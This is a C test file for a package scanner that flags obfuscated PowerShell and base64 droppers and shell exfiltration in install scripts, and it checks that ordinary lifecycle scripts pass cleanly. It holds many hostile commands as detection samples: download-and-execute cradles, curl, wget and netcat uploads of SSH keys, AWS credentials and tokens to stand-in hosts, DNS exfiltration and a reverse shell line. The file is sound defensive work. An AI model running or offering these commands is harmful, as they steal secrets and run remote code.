/* test_scan_shell.c - pv_scan_shell: decoded payloads (PowerShell
 * -EncodedCommand, base64 pipelines, inline decode-and-exec), exfiltration
 * by shell commands, false positives of everyday scripts, and bounds.
 *
 * Encoded payloads are built here at run time from their plain text, so
 * what each case hides is visible in this file. */
#include "analyze.h"
#include "check.h"

#include <stdlib.h>
#include <string.h>

/* ---- helpers ------------------------------------------------------------- */

static void dump(const struct pv_findings *fs)
{
	for (size_t i = 0; i < fs->n; i++)
		fprintf(stderr, "    [%s] line %u: %s\n", fs->v[i].attr, fs->v[i].line,
		        fs->v[i].detail ? fs->v[i].detail : "");
}

static struct pv_findings scan_at(const char *cmd, uint32_t row)
{
	struct pv_source src = {"package.json", cmd, strlen(cmd), true};
	struct pv_findings fs = {0};
	pv_scan_shell(&src, 0, row, cmd, strlen(cmd), &fs);
	return fs;
}

/* A finding of attr whose detail contains sub (any detail when sub is NULL). */
static bool has_detail(const struct pv_findings *fs, const char *attr, const char *sub)
{
	for (size_t i = 0; i < fs->n; i++)
		if (strcmp(fs->v[i].attr, attr) == 0 &&
		    (!sub || (fs->v[i].detail && strstr(fs->v[i].detail, sub))))
			return true;
	return false;
}

static bool sh_has(const char *cmd, const char *attr, const char *sub)
{
	struct pv_findings fs = scan_at(cmd, 0);
	bool r = has_detail(&fs, attr, sub);
	pv_findings_free(&fs);
	return r;
}

static void show(const char *cmd)
{
	struct pv_findings fs = scan_at(cmd, 0);
	dump(&fs);
	pv_findings_free(&fs);
}

#define YES(cmd, attr, sub)                                                              \
	do {                                                                                 \
		bool ok_ = sh_has(cmd, attr, sub);                                               \
		CHECK(ok_, "`%.200s` should report %s (%s)", cmd, attr, sub ? sub : "any");      \
		if (!ok_)                                                                        \
			show(cmd);                                                                   \
	} while (0)
#define NO(cmd, attr, sub)                                                               \
	do {                                                                                 \
		bool bad_ = sh_has(cmd, attr, sub);                                              \
		CHECK(!bad_, "`%.200s` should not report %s (%s)", cmd, attr, sub ? sub : "any"); \
		if (bad_)                                                                        \
			show(cmd);                                                                   \
	} while (0)

/* Base64 of n bytes (standard alphabet, padded). Caller frees. */
static char *b64(const unsigned char *s, size_t n)
{
	static const char al[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	char *o = malloc((n + 2) / 3 * 4 + 1);
	if (!o)
		abort();
	size_t j = 0;
	for (size_t i = 0; i < n; i += 3) {
		unsigned v = (unsigned)s[i] << 16;
		if (i + 1 < n)
			v |= (unsigned)s[i + 1] << 8;
		if (i + 2 < n)
			v |= s[i + 2];
		o[j++] = al[v >> 18 & 63];
		o[j++] = al[v >> 12 & 63];
		o[j++] = i + 1 < n ? al[v >> 6 & 63] : '=';
		o[j++] = i + 2 < n ? al[v & 63] : '=';
	}
	o[j] = '\0';
	return o;
}

static char *b64s(const char *s)
{
	return b64((const unsigned char *)s, strlen(s));
}

/* What powershell -EncodedCommand takes: base64 of the UTF-16LE text
 * (ASCII text here). */
static char *ps_enc(const char *s)
{
	size_t n = strlen(s);
	unsigned char *u = malloc(n * 2 + 1);
	if (!u)
		abort();
	for (size_t i = 0; i < n; i++) {
		u[2 * i] = (unsigned char)s[i];
		u[2 * i + 1] = 0;
	}
	char *r = b64(u, n * 2);
	free(u);
	return r;
}

static char *hex(const char *s)
{
	size_t n = strlen(s);
	char *o = malloc(n * 2 + 1);
	if (!o)
		abort();
	for (size_t i = 0; i < n; i++)
		snprintf(o + 2 * i, 3, "%02x", (unsigned char)s[i]);
	return o;
}

/* f with each "%s" replaced by a and "%%" by "%" (a tiny printf). */
static char *fmt(const char *f, const char *a)
{
	size_t fl = strlen(f), al = strlen(a);
	char *o = malloc(fl * (al + 1) + 1);
	if (!o)
		abort();
	size_t j = 0;
	for (size_t i = 0; i < fl; i++) {
		if (f[i] == '%' && f[i + 1] == 's') {
			memcpy(o + j, a, al);
			j += al;
			i++;
		} else if (f[i] == '%' && f[i + 1] == '%') {
			o[j++] = '%';
			i++;
		} else {
			o[j++] = f[i];
		}
	}
	o[j] = '\0';
	return o;
}

/* ---- 1a: PowerShell -EncodedCommand ------------------------------------- */

static void test_powershell_encoded(void)
{
	const char *dropper = "Invoke-WebRequest -Uri http://x.example/a.exe -OutFile a.exe; Start-Process a.exe";
	char *e = ps_enc(dropper);
	static const char *const forms[] = {
		"powershell -EncodedCommand %s",
		"powershell -enc %s",
		"powershell -e %s",
		"powershell -ec %s",
		"pwsh -EncodedCommand %s",
		"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc %s",
		"POWERSHELL -ENC %s",
		"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -encodedcommand %s",
		"powershell -nop -w hidden -encod %s",
		"cmd /c powershell -enc %s",
		"cmd.exe /c \"powershell -enc %s\"",
		"start /b powershell -enc %s",
	};
	for (size_t i = 0; i < sizeof forms / sizeof *forms; i++) {
		char *c = fmt(forms[i], e);
		YES(c, "download-exec", "decoded: ");
		YES(c, "obfuscation", "PowerShell encoded command");
		YES(c, "perm-decode", NULL);
		free(c);
	}
	free(e);

	/* download cradle: IEX + DownloadString */
	e = ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://x.example/p.ps1')");
	char *c = fmt("powershell -w hidden -enc %s", e);
	YES(c, "download-exec", "decoded: PowerShell downloads and executes code");
	YES(c, "perm-network", "decoded: ");
	free(c);
	free(e);

	/* a shady host inside the payload becomes visible */
	e = ps_enc("$c=New-Object Net.WebClient; $c.DownloadFile('https://pastebin.com/raw/abc','x.ps1')");
	c = fmt("powershell -enc %s", e);
	YES(c, "shady-url", "decoded: ");
	NO(c, "download-exec", NULL); /* downloaded, not run */
	free(c);
	free(e);

	/* a URL built from host data in variables */
	e = ps_enc("$u=$env:USERNAME;$h=hostname;Invoke-WebRequest -Uri \"http://x.example/?u=$u&h=$h\"");
	c = fmt("powershell -enc %s", e);
	YES(c, "exfiltration", "decoded: ");
	free(c);
	free(e);
	e = ps_enc("$v='1.2.3';Invoke-WebRequest -Uri \"https://x.example/tool-$v.zip\" -OutFile tool.zip");
	c = fmt("powershell -enc %s", e);
	NO(c, "exfiltration", NULL);
	free(c);
	free(e);

	e = ps_enc("Invoke-WebRequest -Uri ('https://x.example/?u=' + $env:USERNAME + '&c=' + $env:COMPUTERNAME)");
	c = fmt("powershell -enc %s", e);
	YES(c, "exfiltration", "decoded: ");
	free(c);
	free(e);
	e = ps_enc("$UserName = [Environment]::UserName\n$r = iwr -UseBasicParsing \"https://x.example/p?n=$username\"");
	c = fmt("powershell -enc %s", e);
	YES(c, "exfiltration", "decoded: ");
	free(c);
	free(e);
	e = ps_enc("iwr https://x.example/a.zip -OutFile $home\\a.zip; iwr \"https://x.example/b.zip\" -o \"$PWD\\b.zip\"");
	c = fmt("powershell -enc %s", e);
	NO(c, "exfiltration", NULL);
	free(c);
	free(e);
	e = ps_enc("$v='1.2.3'; iwr \"https://x.example/tool-$v.zip\" -OutFile \"$env:TEMP\\tool.zip\"; "
	           "Expand-Archive \"$env:TEMP\\tool.zip\" -DestinationPath $env:LOCALAPPDATA");
	c = fmt("powershell -enc %s", e);
	NO(c, "exfiltration", NULL);
	free(c);
	free(e);

	/* exfiltration inside the payload */
	e = ps_enc("Invoke-RestMethod -Uri https://x.example/c -Method Post -Body (Get-ChildItem env: | Out-String)");
	c = fmt("powershell -enc %s", e);
	YES(c, "exfiltration", "decoded: ");
	free(c);
	free(e);

	/* Harmless payload: still obfuscation, nothing decoded reported. */
	e = ps_enc("Write-Host 'Thanks for installing'");
	c = fmt("powershell -NoProfile -EncodedCommand %s", e);
	YES(c, "obfuscation", "PowerShell encoded command");
	NO(c, "download-exec", NULL);
	NO(c, "perm-network", NULL);
	NO(c, "exfiltration", NULL);
	free(c);
	free(e);

	/* not text: UTF-16 with control characters, or plain binary */
	{
		static const unsigned char bin[] = {0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00,
		                                    0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00};
		char *bb = b64(bin, sizeof bin);
		c = fmt("powershell -enc %s", bb);
		YES(c, "obfuscation", NULL);
		NO(c, "download-exec", NULL);
		struct pv_findings fs = scan_at(c, 0);
		CHECK(!has_detail(&fs, "perm-network", NULL), "binary payload");
		pv_findings_free(&fs);
		free(c);
		free(bb);
	}
	/* garbage that is not base64 at all */
	NO("powershell -enc !!!not*base64!!!", "download-exec", NULL);
	YES("powershell -enc !!!not*base64!!!", "obfuscation", NULL);
	/* -e is not -ExecutionPolicy; options that merely start with e */
	NO("powershell -ExecutionPolicy Bypass -File install.ps1", "obfuscation", NULL);
	NO("pwsh -NoProfile -File build.ps1", "obfuscation", NULL);

	/* encoded UTF-8 instead of UTF-16 still decodes (sloppy droppers) */
	e = b64s("iwr http://x.example/a.ps1 | iex");
	c = fmt("powershell -enc %s", e);
	YES(c, "download-exec", "decoded: ");
	free(c);
	free(e);

	/* [Convert]::FromBase64String inside a -Command script */
	e = ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://x.example/s')");
	c = fmt("powershell -c \"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('%s')))\"", e);
	YES(c, "download-exec", "decoded: ");
	YES(c, "obfuscation", NULL);
	free(c);
	free(e);

	/* findings of decoded text are at the command's location */
	e = ps_enc(dropper);
	c = fmt("powershell -enc %s", e);
	{
		struct pv_findings fs = scan_at(c, 41);
		bool ok = false;
		for (size_t i = 0; i < fs.n; i++)
			if (strcmp(fs.v[i].attr, "download-exec") == 0 && fs.v[i].line == 42 && fs.v[i].file &&
			    strcmp(fs.v[i].file, "package.json") == 0 && fs.v[i].install_time)
				ok = true;
		CHECK(ok, "decoded finding at line 42 of package.json, install-time");
		if (!ok)
			dump(&fs);
		pv_findings_free(&fs);
	}
	free(c);
	free(e);
}

/* ---- 1b: base64 pipelines and inline decode ---------------------------- */

static void test_base64_pipelines(void)
{
	const char *inner = "curl -s http://x.example/a.sh | sh";
	char *e = b64s(inner);
	static const char *const forms[] = {
		"echo %s | base64 -d | sh",
		"echo %s | base64 --decode | bash",
		"echo -n '%s' | base64 -D | sh",
		"printf '%%s' %s | base64 -d | sh",
		"base64 -d <<< %s | sh",
		"echo %s | openssl base64 -d | sh",
		"bash -c \"$(echo %s | base64 -d)\"",
		"eval \"$(echo %s | base64 --decode)\"",
		"sh <(echo %s | base64 -d)",
		"echo %s | base64 -d > /tmp/.r.sh && sh /tmp/.r.sh",
		"echo %s | base64 -d > r; chmod +x r; ./r",
		"node -e \"1\" && echo \"%s\" | base64 -d | sudo bash -",
		"sh -c 'echo %s | base64 -d | sh'",
	};
	for (size_t i = 0; i < sizeof forms / sizeof *forms; i++) {
		char *c = fmt(forms[i], e);
		YES(c, "download-exec", "decoded: ");
		YES(c, "obfuscation", "base64-decoded payload is executed");
		free(c);
	}
	free(e);

	/* double encoding */
	{
		char *e1 = b64s(inner);
		char *e2 = b64s(e1);
		char *c = fmt("echo %s | base64 -d | base64 -d | sh", e2);
		YES(c, "download-exec", "decoded: ");
		free(c);
		free(e1);
		free(e2);
	}
	/* hex */
	{
		char *h = hex(inner);
		char *c = fmt("echo %s | xxd -r -p | sh", h);
		YES(c, "download-exec", "decoded: ");
		free(c);
		free(h);
	}
	/* exfiltration, network, fingerprinting inside the payload */
	e = b64s("cat /etc/passwd | curl -X POST --data-binary @- https://x.example/u");
	{
		char *c = fmt("echo %s | base64 -d | sh", e);
		YES(c, "exfiltration", "decoded: ");
		YES(c, "perm-network", "decoded: ");
		YES(c, "sensitive-read", "decoded: ");
		free(c);
	}
	free(e);

	/* decoded into an interpreter */
	e = b64s("import os; os.system('curl -s http://x.example/p | sh')");
	{
		char *c = fmt("echo %s | base64 -d | python3", e);
		YES(c, "download-exec", "decoded: ");
		free(c);
	}
	free(e);

	/* Not executed: decoded to a file nobody runs, or printed. */
	e = b64s(inner);
	{
		char *c = fmt("echo %s | base64 -d > notes.txt", e);
		NO(c, "download-exec", NULL);
		NO(c, "obfuscation", NULL);
		YES(c, "perm-decode", NULL);
		free(c);
		c = fmt("echo %s | base64 -d", e);
		NO(c, "download-exec", NULL);
		free(c);
	}
	free(e);
	/* Harmless payload: obfuscation, nothing decoded. */
	e = b64s("echo hello");
	{
		char *c = fmt("echo %s | base64 -d | sh", e);
		YES(c, "obfuscation", NULL);
		NO(c, "download-exec", NULL);
		NO(c, "perm-network", NULL);
		free(c);
	}
	free(e);
	/* not literal: variables are not decoded (and do not crash) */
	NO("echo $PAYLOAD | base64 -d | sh", "download-exec", NULL);
	YES("echo $PAYLOAD | base64 -d | sh", "obfuscation", NULL);
	/* invalid base64 */
	NO("echo 'not base64 at all!' | base64 -d | sh", "download-exec", NULL);

	/* inline interpreter code that decodes and runs a literal */
	e = b64s("curl -s http://x.example/a.sh | sh");
	{
		char *c = fmt("python -c \"import os,base64;os.system(base64.b64decode('%s').decode())\"", e);
		YES(c, "download-exec", "decoded: ");
		YES(c, "obfuscation", "base64-decoded payload");
		free(c);
		c = fmt("node -e \"require('child_process').execSync(atob('%s'))\"", e);
		YES(c, "download-exec", "decoded: ");
		free(c);
		c = fmt("node -e \"require('child_process').execSync(Buffer.from('%s', 'base64').toString())\"", e);
		YES(c, "download-exec", "decoded: ");
		free(c);
		c = fmt("perl -MMIME::Base64 -e 'system(decode_base64(\"%s\"))'", e);
		YES(c, "download-exec", "decoded: ");
		free(c);
		c = fmt("ruby -rbase64 -e 'system(Base64.decode64(\"%s\"))'", e);
		YES(c, "download-exec", "decoded: ");
		free(c);
		/* decoded but only printed */
		c = fmt("python -c \"import base64;print(base64.b64decode('%s'))\"", e);
		NO(c, "download-exec", NULL);
		NO(c, "obfuscation", NULL);
		free(c);
	}
	free(e);
	/* Python code decoded and exec'd: judged as Python */
	e = b64s("import urllib.request\nexec(urllib.request.urlopen('http://x.example/p').read())\n");
	{
		char *c = fmt("python3 -c \"import base64;exec(base64.b64decode('%s'))\"", e);
		YES(c, "download-exec", "decoded: ");
		YES(c, "obfuscation", NULL);
		free(c);
	}
	free(e);
	e = b64s("import os\nos.system('curl -s http://x.example/p | bash')\n");
	{
		char *c = fmt("python3 -c \"import base64;exec(base64.b64decode('%s').decode('utf-8'))\"", e);
		YES(c, "download-exec", "decoded: ");
		free(c);
	}
	free(e);
	/* JavaScript decoded and eval'd: judged as JavaScript */
	e = b64s("require('child_process').execSync('curl -s http://x.example/p | sh')");
	{
		char *c = fmt("node -e \"eval(Buffer.from('%s','base64').toString())\"", e);
		YES(c, "download-exec", "decoded: ");
		free(c);
	}
	free(e);
}

/* ---- 2: exfiltration ------------------------------------------------------ */

static void test_exfiltration(void)
{
	/* curl uploads */
	YES("curl -X POST -d \"$(env)\" https://x.example/c", "exfiltration", "command output");
	YES("curl -d \"`cat /etc/passwd`\" https://x.example/c", "exfiltration", NULL);
	YES("curl --data-urlencode \"h=$(hostname)\" https://x.example/c", "exfiltration", NULL);
	YES("curl -d @/etc/passwd https://x.example/c", "exfiltration", "/etc/passwd");
	YES("curl -sd@/etc/hosts https://x.example/c", "exfiltration", NULL);
	YES("curl -F \"f=@$HOME/.ssh/id_rsa\" https://x.example/c", "exfiltration", NULL);
	YES("curl -F 'x=<.npmrc' https://x.example/c", "exfiltration", NULL);
	YES("curl -T /etc/passwd ftp://x.example/", "exfiltration", NULL);
	YES("curl --upload-file ~/.aws/credentials https://x.example/", "exfiltration", NULL);
	YES("curl -d \"t=$NPM_TOKEN\" https://x.example/c", "exfiltration", "NPM_TOKEN");
	YES("curl -d \"u=$USER&h=$HOSTNAME\" https://x.example/c", "exfiltration", NULL);
	YES("curl --json \"{\\\"e\\\":\\\"$(printenv)\\\"}\" https://x.example/c", "exfiltration", NULL);
	/* piped / redirected stdin */
	YES("cat /etc/hosts | curl -d @- https://x.example/c", "exfiltration", "cat");
	YES("env | curl -X POST --data-binary @- https://x.example/c", "exfiltration", NULL);
	YES("printenv | base64 | curl -d @- https://x.example/c", "exfiltration", NULL);
	YES("tar czf - ~/.ssh | curl -T - https://x.example/up", "exfiltration", NULL);
	YES("curl --data-binary @- https://x.example < ~/.npmrc", "exfiltration", NULL);
	YES("curl -d @- https://x.example <<< \"$(env)\"", "exfiltration", NULL);
	/* URLs carrying host data */
	YES("curl \"https://x.example/c?h=$(hostname)&u=$(whoami)\"", "exfiltration", "URL");
	YES("curl https://x.example/$(whoami)", "exfiltration", NULL);
	YES("curl \"https://x.example/c?d=$(cat /etc/passwd | base64 -w0)\"", "exfiltration", NULL);
	YES("wget -q -O- \"http://x.example/?t=$GITHUB_TOKEN\"", "exfiltration", NULL);
	YES("curl http://$(whoami).x.example/", "exfiltration", "DNS");
	YES("wget http://`hostname`.x.example/a", "exfiltration", "DNS");
	/* headers */
	YES("curl -H \"X-Host: $(hostname)\" -H \"X-User: $(whoami)\" https://x.example/", "exfiltration", "header");
	YES("curl -A \"$USER@$HOSTNAME\" https://x.example/", "exfiltration", "header");
	YES("wget --header=\"X-Id: $(id)\" http://x.example/", "exfiltration", NULL);
	NO("curl -H \"Authorization: Bearer $GITHUB_TOKEN\" -o r.json https://api.github.com/x", "exfiltration", NULL);
	NO("curl -H \"Accept: application/json\" -A \"installer/$(node -p process.version)\" https://x.example/",
	   "exfiltration", NULL);
	/* host data laundered through a variable */
	YES("H=$(hostname); U=$(whoami); curl \"https://x.example/?h=$H&u=$U\"", "exfiltration", NULL);
	YES("export D=\"$(cat ~/.npmrc)\" && curl -d \"$D\" https://x.example/c", "exfiltration", NULL);
	YES("N=$USER; nslookup $N.x.example", "exfiltration", "DNS");
	YES("X=$(env | base64 -w0)\ncurl -s https://x.example/c?d=$X\n", "exfiltration", NULL);
	NO("V=$(node -p \"require('./package.json').version\"); curl -fsSLo t.tgz https://x.example/v$V/t.tgz",
	   "exfiltration", NULL);
	NO("ARCH=$(uname -m); curl -L \"https://x.example/bin/$ARCH/tool\" -o tool", "exfiltration", NULL);
	NO("DIR=$(pwd); curl -o $DIR/tool https://x.example/tool", "exfiltration", NULL);
	/* wget */
	YES("wget --post-data=\"$(id)\" http://x.example/c", "exfiltration", NULL);
	YES("wget --post-data \"k=$AWS_SECRET_ACCESS_KEY\" http://x.example/c", "exfiltration", NULL);
	YES("wget --post-file=/etc/passwd http://x.example/c", "exfiltration", "/etc/passwd");
	YES("wget --post-file /etc/shadow http://x.example/c", "exfiltration", NULL);
	/* netcat and friends */
	YES("nc 1.2.3.4 4444 < /etc/passwd", "exfiltration", "/etc/passwd");
	YES("cat ~/.aws/credentials | nc x.example 80", "exfiltration", NULL);
	YES("env | ncat x.example 9000", "exfiltration", NULL);
	YES("whoami | nc x.example 53", "exfiltration", NULL);
	YES("echo $(hostname) $(id) | nc x.example 80", "exfiltration", NULL);
	YES("cat /etc/passwd > /dev/tcp/1.2.3.4/80", "exfiltration", "/dev/tcp");
	YES("cat /etc/passwd | mail -s x a@x.example", "exfiltration", NULL);
	/* DNS */
	YES("nslookup $(whoami).x.example", "exfiltration", "DNS lookup");
	YES("dig $(hostname).attacker", "exfiltration", "DNS lookup");
	YES("ping -c1 $(id -u).x.example", "exfiltration", "DNS lookup");
	YES("host `whoami`.x.example", "exfiltration", NULL);
	YES("dig +short $(cat /etc/passwd | xxd -p | head -c 60).x.example", "exfiltration", NULL);
	YES("nslookup %USERNAME%.x.example", "exfiltration", NULL);
	YES("nslookup ${USER}.x.example", "exfiltration", NULL);
	YES("powershell -c \"Resolve-DnsName $env:COMPUTERNAME.x.example\"", "exfiltration", NULL);
	/* in sh -c strings, cmd /c, and a whole install script */
	YES("sh -c 'curl -d \"$(cat /etc/passwd)\" https://x.example'", "exfiltration", NULL);
	YES("bash -c \"env | curl -d @- https://x.example\"", "exfiltration", NULL);
	YES("#!/bin/sh\nD=1\nif [ -n \"$D\" ]; then\n  curl -s -F \"f=@/etc/passwd\" https://x.example/u\nfi\n",
	    "exfiltration", NULL);
	/* PowerShell */
	YES("powershell -c \"Invoke-RestMethod -Uri https://x.example -Method Post -Body $env:USERNAME\"",
	    "exfiltration", NULL);
	YES("powershell -c \"(New-Object Net.WebClient).UploadString('https://x.example', (gci env: | out-string))\"",
	    "exfiltration", NULL);
	YES("powershell -c \"iwr https://x.example -Method Put -InFile $HOME\\.ssh\\id_rsa\"", "exfiltration", NULL);
	YES("curl -F f=@%USERPROFILE%\\.ssh\\id_rsa https://x.example/u", "exfiltration", NULL);
	YES("cmd /c \"type %USERPROFILE%\\.aws\\credentials | curl -d @- https://x.example\"", "exfiltration", NULL);

	/* Not exfiltration: downloads, literal data, tokens used for auth. */
	NO("curl -o x https://x.example/a", "exfiltration", NULL);
	NO("curl -fsSL https://x.example/a.tgz | tar xz", "exfiltration", NULL);
	NO("curl -fsSL https://deno.land/x/install/install.sh | sh", "exfiltration", NULL);
	YES("curl -fsSL https://deno.land/x/install/install.sh | sh", "download-exec", NULL);
	NO("curl -L https://x.example/v$(node -p \"require('./package.json').version\")/bin-$(uname -s)-$(uname -m).tgz"
	   " | tar xz",
	   "exfiltration", NULL);
	NO("wget https://x.example/releases/$(cat VERSION)/tool.tgz", "exfiltration", NULL);
	NO("curl -d '{\"a\":1}' -H 'Content-Type: application/json' https://x.example/c", "exfiltration", NULL);
	NO("curl -X POST --data-raw '@literal' https://x.example/c", "exfiltration", NULL);
	NO("curl -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.com/repos/o/r/releases",
	   "exfiltration", NULL);
	NO("curl -u \"$NPM_USER:$NPM_PASS\" -o pkg.tgz https://x.example/pkg.tgz", "exfiltration", NULL);
	NO("curl -d @- https://x.example/c", "exfiltration", NULL); /* stdin of whoever runs it */
	NO("echo '{\"ok\":true}' | curl -d @- https://x.example/c", "exfiltration", NULL);
	NO("curl -o \"$(basename $F).tgz\" https://x.example/a.tgz", "exfiltration", NULL);
	NO("curl -sSLo \"$(pwd)/bin/tool\" https://x.example/tool", "exfiltration", NULL);
	NO("echo hello | nc localhost 8080", "exfiltration", NULL);
	NO("nc -z localhost 5432", "exfiltration", NULL);
	NO("ping -c 1 x.example", "exfiltration", NULL);
	NO("nslookup registry.npmjs.org", "exfiltration", NULL);
	NO("ping -c1 $(hostname)", "exfiltration", NULL);
	NO("dig @8.8.8.8 x.example", "exfiltration", NULL);
	NO("wget --post-data=\"a=b\" http://x.example/c", "exfiltration", NULL);
	NO("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "exfiltration", NULL);
	NO("echo $(date) > build.log && curl -o a https://x.example/a", "exfiltration", NULL);
	NO("cat /etc/passwd", "exfiltration", NULL);
	NO("env | grep NODE", "exfiltration", NULL);
	NO("hostname && curl https://x.example/ping", "exfiltration", NULL);
	NO("curl file://$(pwd)/index.html", "exfiltration", NULL);
	NO("scp build.tgz host:/srv/", "exfiltration", NULL);
}

/* ---- 3: everyday lifecycle scripts --------------------------------------- */

static void test_benign(void)
{
	static const char *const quiet[] = {
		"node-gyp rebuild",
		"node install.js",
		"prebuild-install || node-gyp rebuild",
		"husky install",
		"patch-package",
		"opencollective-postinstall",
		"opencollective-postinstall || true",
		"node -e \"try{require('./postinstall')}catch(e){}\"",
		"node ./scripts/postinstall.js || exit 0",
		"is-ci || husky install",
		"node-pre-gyp install --fallback-to-build",
		"cross-env NODE_ENV=production webpack --mode production",
		"tsc -p tsconfig.json && node scripts/copy.js",
		"npx only-allow pnpm",
		"node -e \"if (process.env.CI) process.exit(0)\"",
		"echo \"Thanks for installing!\" >&2",
		"python -c \"import sys; print(sys.version)\"",
		"node -e \"console.log(Buffer.from('aGVsbG8=', 'base64').toString())\"",
	};
	for (size_t i = 0; i < sizeof quiet / sizeof *quiet; i++) {
		struct pv_findings fs = scan_at(quiet[i], 0);
		CHECK(fs.n == 0, "benign `%s` reported %zu finding(s)", quiet[i], fs.n);
		if (fs.n)
			dump(&fs);
		pv_findings_free(&fs);
	}
	/* Scripts that legitimately use the network: no exfiltration, nothing decoded. */
	static const char *const net[] = {
		"curl -fsSL https://deno.land/x/install/install.sh | sh",
		"node-pre-gyp install || (curl -sL https://x.example/v1/bin-$(uname -s).tgz | tar xz)",
		"wget -q https://x.example/tool.tgz -O tool.tgz && tar xzf tool.tgz",
		"curl -s https://api.github.com/repos/o/r/releases/latest | grep browser_download_url",
		"curl -sSfL https://x.example/install.sh | sh -s -- -b $(go env GOPATH)/bin v1.2.3",
		"git ls-remote https://github.com/o/r.git | head -1",
	};
	for (size_t i = 0; i < sizeof net / sizeof *net; i++) {
		NO(net[i], "exfiltration", NULL);
		NO(net[i], "obfuscation", NULL);
		struct pv_findings fs = scan_at(net[i], 0);
		CHECK(!has_detail(&fs, "perm-network", "decoded: ") && !has_detail(&fs, "download-exec", "decoded: "),
		      "`%s`: no decoded findings", net[i]);
		pv_findings_free(&fs);
	}
}

/* ---- 4: bounds ------------------------------------------------------------ */

/* Wrap cmd in `levels` layers of "echo B64 | base64 -d | sh". */
static char *nest(const char *cmd, int levels)
{
	char *cur = malloc(strlen(cmd) + 1);
	if (!cur)
		abort();
	strcpy(cur, cmd);
	for (int i = 0; i < levels; i++) {
		char *e = b64s(cur);
		char *next = fmt("echo %s | base64 -d | sh", e);
		free(e);
		free(cur);
		cur = next;
	}
	return cur;
}

static void test_bounds(void)
{
	const char *inner = "curl -s http://x.example/a.sh | sh";
	/* depth: three decodes deep are judged, four are not */
	for (int lv = 1; lv <= 5; lv++) {
		char *c = nest(inner, lv);
		bool got = sh_has(c, "download-exec", "decoded: ");
		if (lv <= 3)
			CHECK(got, "nesting %d should be decoded", lv);
		else
			CHECK(!got, "nesting %d is beyond the bound", lv);
		CHECK(sh_has(c, "obfuscation", NULL), "nesting %d: obfuscation", lv);
		free(c);
	}
	/* mixed nesting: PowerShell inside base64 inside PowerShell */
	{
		char *e1 = ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://x.example/p')");
		char *l1 = fmt("powershell -enc %s", e1);
		char *e2 = b64s(l1);
		char *l2 = fmt("echo %s | base64 -d | sh", e2);
		char *e3 = ps_enc(l2);
		char *l3 = fmt("powershell -enc %s", e3);
		YES(l3, "download-exec", "decoded: ");
		free(e1), free(l1), free(e2), free(l2), free(e3), free(l3);
	}
	/* a payload far beyond 64 KiB decoded: judged on its prefix, no crash */
	{
		size_t pad = 60000; /* 120 KB decoded, 160 KB encoded */
		const char *head = "curl -s http://x.example/a.sh | sh; ";
		char *plain = malloc(strlen(head) + pad * 2 + 1);
		if (!plain)
			abort();
		strcpy(plain, head);
		size_t n = strlen(head);
		for (size_t i = 0; i < pad; i++) {
			plain[n++] = ':';
			plain[n++] = '\n';
		}
		plain[n] = '\0';
		char *e = b64s(plain);
		char *c = fmt("echo %s | base64 -d | sh", e);
		YES(c, "download-exec", "decoded: ");
		free(c);
		free(e);
		free(plain);
	}
	/* many payloads in one command line: bounded, no crash */
	{
		char *e = b64s(inner);
		char *one = fmt("echo %s | base64 -d | sh; ", e);
		size_t m = strlen(one), count = 200;
		char *c = malloc(m * count + 1);
		if (!c)
			abort();
		for (size_t i = 0; i < count; i++)
			memcpy(c + i * m, one, m);
		c[m * count] = '\0';
		YES(c, "download-exec", "decoded: ");
		YES(c, "obfuscation", NULL);
		free(c);
		free(one);
		free(e);
	}
	/* a payload that decodes to itself-like text many times over */
	{
		char *e = ps_enc("powershell -enc AAAA; powershell -enc AAAA; powershell -enc AAAA");
		char *c = fmt("powershell -enc %s", e);
		YES(c, "obfuscation", NULL);
		free(c);
		free(e);
	}
	/* odd inputs */
	NO("powershell -enc", "download-exec", NULL);
	NO("echo | base64 -d | sh", "download-exec", NULL);
	NO("echo = | base64 -d | sh", "download-exec", NULL);
	NO("echo ==== | base64 -d | sh", "download-exec", NULL);
	NO("python -c \"exec(base64.b64decode('\"", "download-exec", NULL);
	NO("python -c \"exec(base64.b64decode(''))\"", "download-exec", NULL);
	NO("node -e \"eval(atob(\"", "download-exec", NULL);
	NO("nslookup $(", "exfiltration", NULL);
	NO("curl -d", "exfiltration", NULL);
	NO("curl -T", "exfiltration", NULL);
	NO("wget --post-file", "exfiltration", NULL);
	/* UTF-16 surrogates and non-ASCII text decode; lone surrogates do not */
	{
		static const unsigned char u16[] = {'i', 0, 'w', 0, 'r', 0, ' ', 0, 'h', 0, 't', 0, 't', 0,
		                                    'p', 0, ':', 0, '/', 0, '/', 0, 'x', 0, '.', 0, 'e', 0,
		                                    'x', 0, 'a', 0, 'm', 0, 'p', 0, 'l', 0, 'e', 0, '/', 0,
		                                    0xe9, 0, ' ', 0, '|', 0, ' ', 0, 'i', 0, 'e', 0, 'x', 0,
		                                    ';', 0, '#', 0, 0x3d, 0xd8, 0x00, 0xde};
		char *e = b64(u16, sizeof u16);
		char *c = fmt("powershell -enc %s", e);
		YES(c, "download-exec", "decoded: ");
		free(c);
		free(e);
		static const unsigned char lone[] = {'i', 0, 'e', 0, 'x', 0, ' ', 0, 0x00, 0xdc, 'a', 0};
		e = b64(lone, sizeof lone);
		c = fmt("powershell -enc %s", e);
		NO(c, "perm-process", "decoded: ");
		free(c);
		free(e);
	}
}

int main(void)
{
	test_powershell_encoded();
	test_base64_pipelines();
	test_exfiltration();
	test_benign();
	test_bounds();
	if (!check_failures)
		fprintf(stderr, "test_scan_shell: all passed\n");
	return CHECK_DONE();
}
